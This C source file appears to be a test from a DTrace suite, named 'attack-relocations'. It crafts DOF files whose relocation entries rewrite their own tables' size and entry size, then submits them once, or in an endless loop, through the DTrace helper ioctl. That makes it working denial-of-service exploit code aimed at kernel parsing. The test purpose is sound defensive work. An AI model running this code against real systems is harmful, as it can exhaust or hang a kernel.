/* SPDX-License-Identifier: MIT */
/*
 * relocations.c - register DOF whose relocations have no end. The first two entries of each table
 * make the table itself as long as the file, with entries of one byte.
 *
 *	attack-relocations grow		register once; print the error
 *	attack-relocations again	register without end, with a file of the same size without
 *					such tables
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <dtrace/helper.h>
#include "../lib/dof.h"

#define NTABLES	     1000
#define SECTION_SIZE (15 << 20)
#define SECS	     (2 * NTABLES + 2)
#define WHOLE	     (2 * NTABLES) /* the section that is the whole file */

static struct dof_bytes file;

static dof_sec_t *section(unsigned int number)
{
	return (dof_sec_t *)(file.data + sizeof(dof_hdr_t)) + number;
}

static uint64_t address(const void *p)
{
	return (uint64_t)((const char *)p - file.data);
}

static void make(int grows)
{
	static char zeros[SECTION_SIZE];
	dof_relodesc_t entries[2] = {{.dofr_type = DOF_RELO_NONE}};
	unsigned int i;

	dof_begin(&file, SECS);
	for (i = 0; i < NTABLES; i++) {
		dof_relohdr_t hdr = {.dofr_relsec = 2 * i, .dofr_tgtsec = WHOLE};

		dof_add_section(&file, 2 * i, DOF_SECT_RELTAB, 8, sizeof(entries[0]), entries,
				sizeof(entries));
		dof_add_section(&file, 2 * i + 1, DOF_SECT_URELHDR, 4, 0, &hdr, sizeof(hdr));
	}
	dof_add_section(&file, WHOLE + 1, DOF_SECT_COMMENTS, 8, 0, zeros, SECTION_SIZE);
	dof_add_section(&file, WHOLE, DOF_SECT_COMMENTS, 1, 0, "", 1);
	section(WHOLE)->dofs_offset = 0;
	section(WHOLE)->dofs_size = file.size;
	for (i = 0; grows && i < NTABLES; i++) {
		dof_sec_t *table = section(2 * i);
		dof_relodesc_t *r = (dof_relodesc_t *)(file.data + table->dofs_offset);

		r[0].dofr_type = r[1].dofr_type = DOF_RELO_SETX;
		r[0].dofr_offset = address(&table->dofs_size);
		r[0].dofr_data = SECTION_SIZE - sizeof(entries);
		/* the entry's size becomes 1, without a carry into the next field */
		r[1].dofr_offset = address(&table->dofs_entsize);
		r[1].dofr_data = 1 - (uint64_t)sizeof(entries[0]);
	}
	dof_end(&file, SECS, DOF_VERSION_2);
}

int main(int argc, char **argv)
{
	int again = argc > 1 && !strcmp(argv[1], "again");
	int fd = open(DTRACE_HELPER_DEVICE, O_RDWR);

	make(!again);
	puts("go");
	fflush(stdout);
	do {
		if (ioctl(fd, DTRACEHIOC_ADD, file.data) < 0 && !again)
			puts(strerror(errno));
	} while (again);
	return 0;
}
